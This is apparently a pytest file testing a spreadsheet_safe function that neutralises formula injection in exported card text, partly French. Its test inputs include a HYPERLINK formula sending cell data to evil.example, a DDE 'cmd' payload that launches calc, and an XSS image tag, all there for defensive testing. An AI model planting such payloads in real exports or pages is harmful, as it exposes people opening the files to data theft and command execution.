"""Formula injection: card text that a spreadsheet would run stays text."""

import pytest

from facilitator.textsafety import spreadsheet_safe


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
        "+33 6 12 34 56 78",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "=",
    ],
)
def test_values_a_spreadsheet_would_evaluate_get_a_quote(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    [
        "Un réseau d'OT très soudé",
        "",
        " =1+1 n'est pas en tête",
        "1+1=2",
        "'déjà cité",
        "<img src=x onerror=alert(1)>",
        "💪 =1",
        "\n=1+1",
    ],
)
def test_ordinary_text_is_unchanged(text):
    assert spreadsheet_safe(text) == text


@pytest.mark.parametrize("value", [None, 3, 2.5, True])
def test_values_that_are_not_text_pass_through(value):
    assert spreadsheet_safe(value) is value
